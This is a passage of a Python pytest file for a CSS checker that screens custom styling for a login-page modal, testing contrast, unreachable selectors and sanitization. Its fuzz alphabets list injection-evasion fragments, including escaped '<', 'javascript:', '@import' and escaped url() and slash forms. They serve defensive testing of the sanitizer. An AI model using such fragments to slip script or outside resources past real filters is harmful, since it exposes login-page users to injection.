        "text #777777 on #ffffff in .modal has a contrast of 4.48:1, below the 4.5:1 of WCAG AA."
    )
    report = check_css(css)
    assert report.contrast == (ContrastResult(".modal", "#777777", "#ffffff", report.contrast[0].ratio),)


def test_no_contrast_warning_for_black_on_white() -> None:
    css = f"{MODAL} {{ color: #000; background-color: #fff }}"
    assert _warnings(css, "low-contrast") == []
    (result,) = check_css(css).contrast
    assert result.ratio == 21.0


def test_modal_text_defaults_to_black_and_background_to_white() -> None:
    assert _warnings(f"{MODAL} {{ background-color: #222 }}", "low-contrast")
    assert _warnings(f"{MODAL} {{ color: #eee }}", "low-contrast")


def test_header_uses_modal_background_when_it_has_none() -> None:
    css = f"{MODAL} {{ background: navy; color: white }}\n{HEADER} {{ color: #000080 }}"
    (finding,) = _warning_findings(css, "low-contrast")
    assert finding.line == 2
    assert finding.message.startswith("text #000080 on #000080 in .modalheader has a contrast of 1.00:1")


def test_header_inherits_modal_text_colour() -> None:
    css = f"{MODAL} {{ color: #ccc }}\n{HEADER} {{ background: #fff }}"
    messages = _warnings(css, "low-contrast")
    assert any(".modalheader" in m and "#cccccc on #ffffff" in m for m in messages)


def test_contrast_ignores_what_it_cannot_compute() -> None:
    assert check_css(f"{MODAL} {{ color: var(--x); background: #fff }}").contrast == ()
    image = "url(data:image/png;base64,iVBORw0KGgo=)"
    assert check_css(f"{MODAL} {{ color: #777; background: {image} }}").contrast == ()


def test_state_variants_are_not_the_base_colours() -> None:
    css = f"{MODAL} {{ color: #000; background: #fff }}\n{MODAL}.state-error {{ background: #000 }}"
    assert _warnings(css, "low-contrast") == []


# -- reachability ----------------------------------------------------------------


def test_unreachable_selector_warning() -> None:
    css = f"{MODAL} {{ color: #000 }}\n\n\n\n\n\n.footer-banner {{ color: red }}"
    (finding,) = _warning_findings(css, "unreachable-selector")
    assert (finding.line, finding.column) == (7, 1)
    assert finding.message == "the selector .footer-banner styles nothing on the login page."


def test_unreachable_names_the_missing_part() -> None:
    (message,) = _warnings("#login-form .box-inner .promo, .modal { color: #000 }", "unreachable-selector")
    assert "#login-form .box-inner .promo" in message and "no .promo" in message


@pytest.mark.parametrize(
    "selector",
    ["*", "html", "body", ":root", "body.dark .modal", "#otp-code", "input::placeholder", ".modal:not(.x)"],
)
def test_reachable_selectors_do_not_warn(selector: str) -> None:
    assert _warnings(f"{selector} {{ margin: 0 }}", "unreachable-selector") == []


def test_login_page_names_cover_the_two_selectors() -> None:
    assert {"#login-form", ".box-inner", ".modal", ".modalheader"} <= LOGIN_PAGE_NAMES


# -- properties --------------------------------------------------------------


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text())
def test_never_raises_and_accepted_output_is_stable(text: str) -> None:
    report = check_css(text)
    assert all(_says_no_place(f.message) for f in report.findings)
    if report.ok:
        assert "<" not in report.css
        assert check_css(report.css).css == report.css
    else:
        assert report.css == ""


CSS_ALPHABET = st.sampled_from(
    [*"{}()[];:,.#@!*/\\\"' \n-+<>", "url(", "/*", "*/", "\\3c ", "java", "script:", ".modal", "a", "1"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(CSS_ALPHABET, max_size=30).map("".join))
def test_css_like_text_never_leaks_a_less_than(text: str) -> None:
    report = check_css(text)
    if report.ok:
        assert "<" not in report.css
        assert "javascript:" not in report.css.lower().replace("/**/", "")
        assert check_css(report.css).css == report.css


URL_ALPHABET = st.sampled_from(
    [
        *"(){}:;,\"' \n/\\",
        "url(",
        "URL(",
        "u\\72l(",
        "src(",
        "image-set(",
        "https:",
        "//",
        "\\2f",
        "cdn.example.com",
        "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml,",
        "/**/",
        "@import ",
        ".modal",
        "a",
    ]
)


def _urls(nodes) -> list[str]:
    """Every url-token value and every string argument of url()/src() in a token tree."""
    found: list[str] = []
    for node in nodes:
        if node.type == "url":
            found.append(node.value)
        elif node.type == "function":
            if node.lower_name in ("url", "src", "image-set", "-webkit-image-set", "image"):
                found += [a.value for a in node.arguments if a.type == "string"]
            found += _urls(node.arguments)
        elif node.type.endswith("block"):
            found += _urls(node.content)
    return found


@settings(max_examples=400, deadline=None)
@given(st.lists(URL_ALPHABET, max_size=25).map("".join))
@example(".modal{a:url(https://cdn.example.com)}")
@example('.modal{a:image-set("//cdn.example.com" 1x)}')
def test_stored_css_holds_no_url_but_a_data_image(text: str) -> None:
    report = check_css(text)
    if not report.ok:
        return
    # Read back with the tokenizer a browser follows (CSS Syntax 3), not the checker.
    tokens = tinycss2.parse_component_value_list(report.css, skip_comments=True)
    for url in _urls(tokens):
        assert url.strip().lower().startswith("data:image/png;base64,"), url
    assert "://" not in decode_css_escapes(report.css)
